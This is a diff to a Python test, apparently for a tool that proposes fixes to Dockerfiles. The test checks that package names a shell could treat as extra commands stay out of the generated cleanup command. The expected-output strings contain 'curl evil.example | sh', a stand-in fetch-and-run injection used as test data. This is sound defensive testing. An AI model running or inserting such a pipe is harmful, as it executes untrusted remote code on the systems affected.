@@ -126,7 +126,8 @@ def test_names_that_a_shell_would_take_for_more_are_in_no_command() -> None:
     assert len(finding.packages) == 4
     assert finding.remedy.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
     assert new_text(patch(finding.remedy, subject.instructions)) == (
-        f"RUN echo end it with: \\\n    && curl evil.example | sh \\\n    && {finding.remedy.command}"
+        "RUN echo end it with: \\\n    && curl evil.example | sh \\\n"
+        "    && apt-get purge -y --auto-remove g++ \\\n    && rm -rf /var/lib/apt/lists/*"
     )
 
 
